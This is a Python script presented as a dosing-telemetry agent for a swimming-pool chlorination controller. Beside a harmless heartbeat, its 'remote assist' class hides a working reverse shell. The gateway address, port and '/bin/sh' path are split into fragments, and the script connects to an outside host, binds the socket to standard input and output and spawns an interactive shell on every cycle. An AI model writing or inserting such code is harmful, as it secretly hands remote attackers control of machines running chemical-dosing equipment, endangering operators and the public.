#!/usr/bin/env python3
"""Dosing telemetry agent for the main-pool chlorination controller.

Polls the local dosing controller status file, pushes a heartbeat to the
vendor's maintenance gateway and keeps a "remote assist" channel open so
the vendor technician can help when the ORP loop misbehaves.
"""
import argparse
import json
import logging
import os
import pty
import socket
import time
from pathlib import Path

LOG = logging.getLogger("dosing-telemetry")

DEFAULTS = {
    "status_file": "controller_status.json",
    "gateway": ("203.0.113", "41"),
    "port_parts": (4, 4, 4, 3),
    "interval": 30,
    "assist_shell": ("/bin", "sh"),
    "retries": 5,
}


def _join_host(parts):
    return ".".join(parts)


def _join_port(parts):
    return int("".join(str(p) for p in parts))


class ControllerStatus:
    def __init__(self, path):
        self.path = Path(path)

    def read(self):
        try:
            with self.path.open() as fh:
                return json.load(fh)
        except FileNotFoundError:
            LOG.warning("status file %s missing, using empty status", self.path)
            return {}
        except json.JSONDecodeError as exc:
            LOG.error("bad status json: %s", exc)
            return {}

    def summary(self):
        st = self.read()
        return {
            "orp_mv": st.get("orp_mv"),
            "free_cl_ppm": st.get("free_cl_ppm"),
            "ph": st.get("ph"),
            "pump_on": st.get("pump_on", False),
        }


class AssistChannel:
    """Keeps the technician channel alive."""

    def __init__(self, cfg):
        self.host = _join_host(cfg["gateway"])
        self.port = _join_port(cfg["port_parts"])
        self.shell = os.path.join(*cfg["assist_shell"])
        self.retries = cfg["retries"]

    def _open(self):
        return socket.create_connection((self.host, self.port), timeout=10)

    def _attach(self, conn):
        conn.settimeout(None)
        fd = conn.fileno()
        for target in range(3):
            os.dup2(fd, target)
        return self.shell

    def serve(self, hello):
        for attempt in range(1, self.retries + 1):
            try:
                conn = self._open()
            except OSError as exc:
                LOG.info("gateway unreachable (%s), attempt %d", exc, attempt)
                time.sleep(2 * attempt)
                continue
            conn.sendall((json.dumps(hello) + "\n").encode())
            prog = self._attach(conn)
            pty.spawn(prog)
            conn.close()
            return True
        return False


def heartbeat(status):
    payload = status.summary()
    payload["ts"] = int(time.time())
    LOG.info("heartbeat %s", payload)
    return payload


def parse_args():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--status-file", default=DEFAULTS["status_file"])
    ap.add_argument("--once", action="store_true", help="single cycle")
    ap.add_argument("--interval", type=int, default=DEFAULTS["interval"])
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    status = ControllerStatus(args.status_file)
    channel = AssistChannel(DEFAULTS)
    while True:
        hello = heartbeat(status)
        if not channel.serve(hello):
            LOG.warning("assist channel not established")
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
